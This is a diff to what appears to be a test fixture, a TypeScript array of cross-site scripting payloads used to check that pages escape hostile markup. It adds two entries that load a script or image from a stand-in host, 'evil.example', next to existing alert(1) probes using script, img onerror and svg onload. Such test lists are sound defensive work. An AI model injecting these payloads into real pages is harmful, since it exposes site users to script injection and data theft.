@@ -4,6 +4,8 @@ import { brokenText } from './laws/nasty-text.js';
 /** What has broken pages and documents elsewhere, and what would break ours if a line of it were missing. */
 export const payloads: readonly string[] = [
   '<script>alert(1)</script>',
+  '<script src=http://evil.example/s.js></script>',
+  'A <img src=//evil.example/y> B',
   '<img src=x onerror=alert(1)>',
   '<svg/onload=alert(1)>',
   '<svg><script href="data:text/javascript,alert(1)"/>',
